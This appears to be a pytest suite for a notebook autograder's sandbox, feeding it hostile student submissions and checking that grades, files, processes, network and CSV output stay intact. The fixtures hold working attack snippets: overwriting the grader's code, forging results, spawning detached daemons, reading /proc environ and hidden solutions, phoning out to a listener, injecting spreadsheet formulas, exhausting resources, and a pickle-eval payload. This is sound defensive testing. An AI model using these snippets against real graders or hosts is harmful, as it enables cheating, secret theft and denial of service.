"""Hostile submissions against the grader (issue #49: S1-S9, L1, L2, W2), each a notebook graded beside an
honest solution and an untouched stub: every attacker gets the points its honest work earns, every other
student's grade and the grader's files stay as they were, no process is left behind, and the CSV is always
written whole, with no cell a spreadsheet would read as a formula and no hidden test or solution in it."""

import csv
import hashlib
import json
import os
import socket
import threading
import time
from pathlib import Path

import numpy as np
import pytest

import olr_core
from olr_core.course import Limits, build_assignments, grade_submissions, neutral, secrets, totals
from olr_core.course_jail import SandboxUnavailable, check_available, copy_submission
from olr_core.course_wire import WireError, decode, encode, loads

ROOT = Path(__file__).resolve().parents[1]
NAME = "verdict_rule"
BODY = '    """(p-value, verdict) of the paired one-sided t test of mean(a - b) > 0."""\n    ...'
MARKER = "4242.4242"                      # the argument of every process an attacker leaves running

# label -> (code of a cell added at the end, new body of the function or None, points its honest work earns)
ATTACKS = {
    "s1-rewrites-the-grader": (
        "import olr_core, pathlib\n"
        "for target in ['__pycache__/../course_sandbox.py', 'course.py', 'course_jail.py']:\n"
        "    try:\n"
        "        with open(pathlib.Path(olr_core.__file__).parent / target, 'a') as f: f.write('\\n# pwned')\n"
        "    except OSError:\n"
        "        pass\n", None, 0),
    "s2-forges-results": (
        "import os, json, atexit, sys\n"
        "forged = json.dumps({'records': [{'submission': 'alice/verdict_rule.ipynb', 'test': 'x', 'points': -2}],"
        " 'value': {'__tuple__': [0.0, True]}, 'points': 3}) + '\\n'\n"
        "def forge():\n"
        "    for fd in range(0, 64):\n"
        "        try: os.write(fd, forged.encode())\n"
        "        except OSError: pass\n"
        "    for path in ['result.json', '../result.json', '/tmp/result.json']:\n"
        "        try: open(path, 'w').write(forged)\n"
        "        except OSError: pass\n"
        "atexit.register(forge)\n"
        "forge()\n"
        "import olr_core.course_wire as wire\n"
        "wire.dumps = lambda message: forged.encode()\n", None, 0),
    "s3-leaves-a-daemon": (
        "import os\n"
        "for _ in range(3):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        f"        os.execv('/bin/sleep', ['sleep', '{MARKER}'])\n", None, 0),
    "s4-patches-builtins": (
        "import builtins, numpy, math\n"
        "builtins.abs = lambda x: 0\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "math.isclose = lambda *a, **k: True\n",
        "    return 0.0, True", 1),
    "s5-snoops": (
        "", "    import glob, os\n"
        "    found = []\n"
        "    for pattern in [AUTOGRADER + '/**', OTHER, '/proc/*/cmdline', '/proc/*/environ', '/work/**', '/tmp/**']:\n"
        "        for path in glob.glob(pattern, recursive=True):\n"
        "            try: found.append(path + open(path, errors='replace').read())\n"
        "            except OSError: pass\n"
        "    raise AssertionError(' '.join(found)[:5000])", 0),
    "s6-links-the-autograder": (
        "exec(compile(''.join(c['source'] if isinstance(c['source'], str) else ''.join(c['source']) for c in "
        "__import__('json').load(open('linked/verdict_rule.ipynb'))['cells'] if c['cell_type'] == 'code' "
        "and 'def margin_above_zero' in ''.join(c['source'])), 'x', 'exec'))\n", None, 0),
    "s7-phones-home": (
        "import socket\n"
        "for host in ['127.0.0.1', '10.0.2.2', '1.1.1.1']:\n"
        "    try: socket.create_connection((host, PORT), timeout=1).sendall(b'stolen')\n"
        "    except OSError: pass\n", None, 0),
    "=HYPERLINK(\"http:x\")": (                                     # S9: a formula in the submission's name
        "", "    raise AssertionError('=HYPERLINK(\"http://evil\",\"click\")')", 0),
    "s9-floods-memory-disk-processes": (
        "import os\n"
        "try: hog = bytearray(8 * 2 ** 30)\n"
        "except MemoryError: pass\n"
        "try:\n"
        "    with open('/scratch/big', 'wb') as f:\n"
        "        for _ in range(200): f.write(b'x' * 2 ** 20)\n"
        "except OSError: pass\n"
        "for _ in range(100):\n"
        "    try:\n"
        "        if os.fork() == 0: os.execv('/bin/sleep', ['sleep', MARKER])\n"
        "    except OSError: break\n", None, 0),
    "l1-link-loop": ("", None, 0),
    "l2-extra-keys": (
        "import os\n"
        "for fd in range(3, 64):\n"
        "    try: os.write(fd, b'{\"problems\": [], \"names\": {\"margin_above_zero\": \"data\"}, \"x\": 1}\\n')\n"
        "    except OSError: pass\n", None, 0),
    "w2-corrupt": ("", None, 0),
}


def edited(stub: str, cell: str, body: str | None, constants: dict) -> str:
    """The stub with the function's body replaced and a code cell appended, constants filled in."""
    notebook = json.loads(stub)
    for old, new in constants.items():
        cell, body = cell.replace(old, new), body and body.replace(old, new)
    if body is not None:
        for c in notebook["cells"]:
            source = "".join(c["source"])
            if BODY in source:
                c["source"] = source.replace(BODY, '    """hostile"""\n' + body)
    if cell:
        notebook["cells"].append({"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                                  "source": cell})
    return json.dumps(notebook)


def tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
        digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


class Listener:
    """A TCP server on the grader's loopback that counts the connections it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.server.getsockname()[1], 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                self.server.accept()[0].close()
            except OSError:
                return
            self.connections += 1


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    return build_assignments(ROOT, tmp_path_factory.mktemp("assignments"), only=NAME)


def test_the_sandbox_starts_here_or_grading_refuses(tmp_path):
    check_available(tmp_path)             # CI installs bubblewrap (make test); a machine without it must fail


def test_every_hostile_submission_earns_only_its_honest_points(built, tmp_path):
    autograder = built[NAME] / "autograder"
    student = (built[NAME] / "student" / f"{NAME}.ipynb").read_text()
    folder, listener = tmp_path / "submissions", Listener()
    (folder / "alice").mkdir(parents=True)
    (folder / "alice" / f"{NAME}.ipynb").write_text((autograder / f"{NAME}.ipynb").read_text())
    (folder / "bob").mkdir()
    (folder / "bob" / f"{NAME}.ipynb").write_text(student)
    constants = {"AUTOGRADER": repr(str(autograder)), "OTHER": repr(str(folder / "alice" / f"{NAME}.ipynb")),
                 "PORT": str(listener.port), "MARKER": repr(MARKER)}
    for label, (cell, body, _) in ATTACKS.items():
        (folder / label).mkdir()
        (folder / label / f"{NAME}.ipynb").write_text(edited(student, cell, body, constants))
    (folder / "s6-links-the-autograder" / "linked").symlink_to(autograder)
    (folder / "s6-links-the-autograder" / "solution.ipynb").symlink_to(autograder / f"{NAME}.ipynb")
    (folder / "l1-link-loop" / "loop").symlink_to("loop")
    (folder / "l1-link-loop" / "a").symlink_to("b")
    (folder / "l1-link-loop" / "b").symlink_to("a")
    (folder / "w2-corrupt" / f"{NAME}.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "x = 1"')
    before = {"olr_core": tree_digest(Path(olr_core.__file__).parent), "autograder": tree_digest(built[NAME])}

    rows = grade_submissions(folder, built[NAME].parent, tmp_path / "grades.csv",
                             Limits(test_seconds=5, notebook_seconds=20, memory_mb=1024, processes=64), jobs=2)

    sums = {k.split("/")[0]: v for k, v in totals(rows).items()}
    assert sums.pop("alice") == (3.0, 3.0) and sums.pop("bob") == (0.0, 3.0)
    assert sums == {label: (float(points), 3.0) for label, (_, _, points) in ATTACKS.items()}, sums
    assert before == {"olr_core": tree_digest(Path(olr_core.__file__).parent), "autograder": tree_digest(built[NAME])}
    time.sleep(0.5)
    assert processes_with(MARKER) == [], "a graded notebook's process outlived its grading"
    assert listener.connections == 0, "a graded notebook reached the grader's network"
    with open(tmp_path / "grades.csv", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert len(table) == len(rows) and all(row["feedback"] for row in table)
    assert not any(value[:1] in "=+-@" for row in table for value in row.values() if value), "a formula cell"
    text = " ".join(row["feedback"] for row in table)       # the check's name is shown; nothing hidden
    assert not [s for s in secrets(ROOT, built[NAME].parent)[NAME] if s in text], "a secret in the feedback"
    feedback = {row["submission"].split("/")[0]: row["feedback"] for row in rows if row["test"].endswith("scipy")}
    assert "not a Jupyter notebook" in feedback["w2-corrupt"] and "Traceback" not in text
    assert "MemoryError" not in feedback["s9-floods-memory-disk-processes"]      # the cell caught it and went on


def test_a_notebook_cannot_see_its_grader(built, tmp_path):
    """Inside the jail: an unprivileged uid, no parent process, no project folder, read-only packages."""
    from olr_core.course import Notebook

    work, scratch = tmp_path / "work", tmp_path / "scratch"
    work.mkdir(), scratch.mkdir()
    os.chmod(tmp_path, 0o755)
    from olr_core.course_jail import prepare

    prepare(tmp_path)
    cell = ("import os, olr_core\nuid = os.getuid()\npids = sorted(p for p in os.listdir('/proc') if p.isdigit())\n"
            f"project = os.path.exists({str(ROOT / '_build')!r}) or os.path.exists({str(built[NAME])!r})\n"
            "try:\n    open(os.path.join(os.path.dirname(olr_core.__file__), 'x'), 'w'); writable = True\n"
            "except OSError:\n    writable = False\n")
    notebook = Notebook({"cells": [{"cell_type": "code", "source": cell}]}, ["uid", "pids", "project", "writable"],
                        work, scratch, Limits(), 60)
    try:
        notebook.start()
        notebook.deadline = time.monotonic() + 10
        seen = {name: notebook.value(name) for name in ("uid", "pids", "project", "writable")}
    finally:
        notebook.close()
    assert seen["uid"] == (65534 if os.geteuid() == 0 else os.geteuid()) and seen["uid"] != 0
    assert len(seen["pids"]) <= 3 and not seen["project"] and not seen["writable"], seen


def test_copying_a_submission_follows_no_link(tmp_path):
    (tmp_path / "secret").write_text("answer")
    source = tmp_path / "in"
    (source / "sub").mkdir(parents=True)
    (source / "notebook.ipynb").write_text("{}")
    (source / "link").symlink_to(tmp_path / "secret")
    (source / "folder-link").symlink_to(tmp_path)
    (source / "sub" / "loop").symlink_to("../sub")
    skipped = copy_submission(source, tmp_path / "out")
    copied = sorted(str(p.relative_to(tmp_path / "out")) for p in (tmp_path / "out").rglob("*"))
    assert copied == ["notebook.ipynb", "sub"] and "link" in skipped


def test_csv_cells_are_neutralised():
    assert [neutral(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "ok", 2.0, "a\tb\x1b")] == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "ok", 2.0, "a b "]


def test_only_plain_data_crosses():
    rng = np.random.default_rng(5)
    value = {"x": [1, 2.5, None, "s", (True, np.arange(3))], "g": rng, "n": np.float32(1.5)}
    back = decode(json.loads(json.dumps(encode(value))))
    assert back["x"][:4] == [1, 2.5, None, "s"] and np.array_equal(back["x"][4][1], np.arange(3))
    assert back["g"].random() == rng.random() and back["n"] == np.float32(1.5)
    for hostile in ({"__ndarray__": "gANjYnVpbHRpbnMKZXZhbApxAC4="}, {"__generator__": "os", "state": {}},
                    {"__main__": 1}, {"__tuple__": 3}):
        with pytest.raises(WireError):
            decode(hostile)
    for unsendable in (object(), np.array([object()]), lambda: 0):
        with pytest.raises(WireError):
            encode(unsendable)
    with pytest.raises(WireError):
        loads(b"[" * 100_000)


def test_grading_refuses_to_run_unconfined(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))            # no bwrap to be found
    monkeypatch.setattr("shutil.which", lambda name: None)
    with pytest.raises(SandboxUnavailable, match="refusing to grade"):
        check_available(tmp_path)


def test_the_jails_tmp_is_a_tmpfs_of_bounded_size(tmp_path):
    """/tmp in the jail lives in the machine's memory: a notebook filling it stops at its size (ENOSPC), far
    below what the per-file limit would let it write."""
    import subprocess

    from olr_core.course_jail import Jail, command, prepare

    work = tmp_path / "work"
    work.mkdir()
    prepare(tmp_path)
    jail = Jail(work=work, scratch=work, file_bytes=64 * 2 ** 20, tmp_bytes=2 ** 20)
    fill = "for i in 1 2 3 4; do head -c 1000000 /dev/zero > /tmp/f$i || exit 7; done; echo filled"
    done = subprocess.run(command(jail, ["/bin/sh", "-c", fill]), capture_output=True, text=True, timeout=30,
                          env={"PATH": "/usr/bin:/bin"})
    assert done.returncode == 7 and "filled" not in done.stdout and "No space left" in done.stderr, done
